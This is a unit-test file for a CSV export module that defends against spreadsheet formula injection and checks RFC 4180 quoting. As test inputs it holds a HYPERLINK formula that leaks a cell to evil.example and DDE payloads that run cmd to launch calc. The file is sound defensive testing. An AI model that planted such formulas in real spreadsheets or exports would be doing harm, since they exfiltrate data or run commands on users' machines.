// CSV the project writes: a cell a spreadsheet would run as a formula gets a leading ' (OWASP,
// CSV injection); quoting per RFC 4180.
import { csvCell, csvLine, neutraliseCell } from '../../core/csv';

test.each([
  ['=HYPERLINK("https://evil.example/?"&A1,"klik")', `'=HYPERLINK("https://evil.example/?"&A1,"klik")`],
  ['+SUM(1,2)', "'+SUM(1,2)"],
  ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
  ['@SUM(1+9)*cmd|\' /C calc\'!A0', "'@SUM(1+9)*cmd|' /C calc'!A0"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  ['+31 6 1234', "'+31 6 1234"],
])('%j becomes text: %j', (cell, safe) => {
  expect(neutraliseCell(cell)).toBe(safe);
});

test.each([['Anna de Vries'], ['+31612345678'], ['-5'], ['+1.5'], ['2026-11-23'], ['a=b'], [''], ["'=already text"]])('%j is left as it is', (cell) => {
  expect(neutraliseCell(cell)).toBe(cell);
});

test('a cell is neutralised, then quoted when it holds a separator, a quote or a line break', () => {
  expect(csvCell('=1+1,2')).toBe(`"'=1+1,2"`);
  expect(csvCell('Jansen, "Jan"')).toBe('"Jansen, ""Jan"""');
  expect(csvCell('regel 1\nregel 2')).toBe('"regel 1\nregel 2"');
  expect(csvCell('x;y')).toBe('"x;y"'); // Dutch Excel splits on ;
  expect(csvCell(null)).toBe('');
  expect(csvLine(['Anna', '+31612345678', '=cmd', null])).toBe("Anna,+31612345678,'=cmd,\r\n");
});
